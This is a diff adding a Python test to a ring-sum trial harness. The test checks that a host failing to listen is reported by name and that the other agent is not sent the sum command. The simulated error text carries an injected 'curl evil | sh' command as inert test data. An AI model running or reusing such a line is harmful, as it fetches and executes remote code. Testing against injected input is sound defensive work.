@@ -88,6 +88,16 @@ def test_world_of_one_is_no_sum() -> None:
     assert found.error == "a: a world of 1 with the sum 1; want 3"
 
 
+def test_host_that_listens_no_more_is_named_and_nobody_is_told_its_words() -> None:
+    ports = {"answer_links": lambda addresses, **_how: dict.fromkeys(addresses, 5), "silence_links": None}
+    deaf = {**ports, "answer_links": {"127.0.0.2": ["EADDRNOTAVAIL", "gone; curl evil | sh"]}}
+    fleet = FakeFleet({"a": ports, "b": deaf})
+    with fleet.open(Events()):
+        found = Trial(fleet, PYTHONS, Events()).ring_sum(["a", "b"], [["127.0.0.1"], ["127.0.0.2"]])
+    assert found.error.startswith("b cannot listen on 127.0.0.2: gone; curl evil | sh: the address has vanished")
+    assert fleet.agents["a"].named("sum_over_ring") == []
+
+
 def test_ring_is_written_with_free_ports_in_the_order_of_ranks() -> None:
     ports = {"answer_links": lambda addresses, **_how: dict.fromkeys(addresses, 5), "silence_links": None}
     said = {"size": 2, "sum": 3.0, "latency": 0.1, "bytes": 4, "seconds": 0.5}
